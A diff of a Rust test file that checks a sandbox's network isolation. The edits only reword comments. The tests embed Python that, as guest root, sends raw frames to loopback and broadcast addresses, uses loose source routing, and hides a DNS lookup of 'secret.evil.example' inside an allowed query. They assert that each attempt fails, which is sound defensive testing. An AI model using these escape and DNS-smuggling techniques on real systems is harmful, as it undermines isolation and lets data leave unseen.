@@ -1,4 +1,5 @@
-//! What root in a guest tries by network, beyond what network.rs has: ports of the daemon, raw frames, names as a way out.
+//! Attacks of root in a guest by network, beyond those of network.rs: ports of the daemon, raw
+//! frames, names as a way out.
 #![allow(clippy::unwrap_used, clippy::panic)]
 
 mod support;
@@ -97,8 +98,8 @@ print(sorted(found))
         );
         // Its own name server is all there is; the address of everybody is the guest itself.
         assert_eq!(root_python(&place, &id, &program), "[('169.254.0.22', 53)]");
-        // By hand also to where no socket would send: the host's loopback, everybody, many, itself under another name; with a route of
-        // the sender's choice (RFC 791, loose source routing).
+        // By hand also to where no socket would send: the host's loopback, everybody, many, itself
+        // under another name; with a route of the sender's choice (RFC 791, loose source routing).
         let program = format!(
             r#"{FRAMES}
 here = ["127.0.0.1", "{HOST}", "0.0.0.0", "255.255.255.255", "224.0.0.1", "11.0.0.255"]
@@ -111,7 +112,7 @@ for to in here:
 "#
         );
         root_python(&place, &id, &program);
-        // What was sent before has passed when an answer came back over the same wire.
+        // Earlier packets have passed when an answer came back over the same wire.
         assert_eq!(reach(&place, &id, "9.9.9.9"), "internet");
         heard.set_nonblocking(true).unwrap();
         let mut buffer = [0; 64];
@@ -125,7 +126,8 @@ for to in here:
     });
 }
 
-/// Everything that arrives from slots in the lab's host, until told to stop: kinds of frames and, of IPv4, where from.
+/// Everything that arrives from slots in the lab's host, until told to stop: kinds of frames and,
+/// of IPv4, where from.
 fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
     let all = libc::ETH_P_ALL.cast_unsigned() as u16;
     // SAFETY: makes a socket, in the network namespace of this thread.
@@ -237,11 +239,11 @@ send(0x0800, udp("9.9.9.9", b"its own"))
 "#
         );
         root_python(place, &id, &program);
-        // What came before it was sent before it, on the same way.
+        // Earlier packets came on the same way, so they have arrived.
         let (from, text) = lab.datagrams.recv_timeout(Duration::from_secs(20)).unwrap();
         assert_eq!(String::from_utf8_lossy(&text), "its own");
         assert_eq!(from.ip().to_string(), HOST);
-        // Nobody was led astray.
+        // No connection was diverted.
         assert_eq!(reach(place, &other, "9.9.9.9"), "internet");
         assert_eq!(reach(place, &id, "9.9.9.9"), "internet");
         stop.store(true, Ordering::SeqCst);
@@ -301,7 +303,8 @@ print(*own, *others, ask("169.254.0.22", "good.example"))
             json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
         let names = create(place, rules);
         assert_eq!(say(&names, &program), "refused nobody answer");
-        // Nor hidden in one that is allowed: as two questions, as another class, or behind what a server would cut off.
+        // Nor hidden in one that is allowed: as two questions, as another class, or behind what a
+        // server would cut off.
         let hidden = r#"
 def raw(text):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
@@ -314,7 +317,8 @@ good, evil = question("good.example", 16), question("secret.evil.example", 16)
 two = good[:4] + struct.pack("!4H", 2, 0, 0, 0) + good[12:] + evil[12:]
 print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evil[3:]), raw(b"\0" * 11), raw(evil[:20]))
 "#;
-        // NOTIMP (4) for more than one question and for updates; answers and what is cut short get none.
+        // NOTIMP (4) for more than one question and for updates; answers and what is cut short get
+        // none.
         assert_eq!(say(&names, hidden), "4 4 silence silence silence");
     });
 }
